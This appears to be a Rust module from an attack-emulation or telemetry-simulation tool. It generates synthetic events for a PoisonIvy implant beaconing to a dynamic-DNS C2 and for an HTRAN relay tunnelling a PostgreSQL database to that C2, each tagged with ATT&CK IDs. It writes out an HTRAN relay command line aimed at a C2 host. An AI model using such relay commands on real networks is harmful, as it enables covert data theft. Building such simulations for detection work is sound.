//! Stage 6: PoisonIvy beacons to dynamic DNS; HTRAN relays between the C2 and the CDR
//! database's segment.

use super::{Ctx, Foothold, Implant, WaveState};
use crate::clock::{MINUTE, SECOND};
use crate::sink::Sink;
use crate::windows::Exe;

pub(super) fn beacon_and_relay(
    c: &mut Ctx<'_>,
    w: &mut WaveState<'_>,
    sink: &mut Sink,
    hold: &Foothold<'_>,
    implant: &Implant,
) {
    let (jump, jump_ip) = (hold.jump, &hold.jump_ip);
    let db_ip = &w.db_ip;
    let t = w.t;
    c.label(sink, 6, "T1071.001", "implant beacon to dynamic-DNS C2");
    let c2 = c.kit.c2.clone();
    jump.dns(
        sink,
        t + 40 * SECOND,
        &implant.implant,
        &c.kit.c2_domain.clone(),
        &c2,
    );
    for k in 0..6 {
        let tt = t + 41 * SECOND + k * 17 * MINUTE;
        jump.connect(
            sink,
            tt,
            &implant.implant,
            "tcp",
            true,
            (jump_ip, 50_900 + k as u16),
            (&c2, 443),
        );
        c.flow(
            sink,
            tt,
            (jump_ip, 50_900 + k as u16),
            (&c2, 443),
            "ssl",
            4.0,
            2_300,
            1_800,
        );
    }
    w.t += 30 * MINUTE;
    let t = w.t;
    c.label(sink, 6, "T1090.002", "HTRAN relay started");
    let relay_args = if c.kit.renamed {
        format!("-s {c2} 8443 {db_ip} 5432")
    } else {
        format!("-slave {c2} 8443 {db_ip} 5432")
    };
    let htran_path = &hold.htran_path;
    let relay = jump.spawn(
        sink,
        &mut c.dice,
        t,
        &implant.ecmd,
        Exe {
            path: htran_path,
            pe: if c.kit.renamed { "" } else { "htran.exe" },
            build: c.kit.build,
        },
        format!("{htran_path} {relay_args}"),
    );
    for k in 0..3 {
        let tt = t + (5 + 600 * k) * SECOND;
        jump.connect(
            sink,
            tt,
            &relay,
            "tcp",
            true,
            (jump_ip, 51_200 + k as u16),
            (&c2, 8443),
        );
        jump.connect(
            sink,
            tt + SECOND,
            &relay,
            "tcp",
            true,
            (jump_ip, 51_300 + k as u16),
            (db_ip, 5432),
        );
        let bytes = 40_000 + c.dice.below(200_000);
        c.flow(
            sink,
            tt,
            (jump_ip, 51_200 + k as u16),
            (&c2, 8443),
            "ssl",
            300.0,
            bytes,
            bytes / 9,
        );
        c.flow(
            sink,
            tt + SECOND,
            (jump_ip, 51_300 + k as u16),
            (db_ip, 5432),
            "postgresql",
            299.0,
            bytes / 9,
            bytes,
        );
    }
}
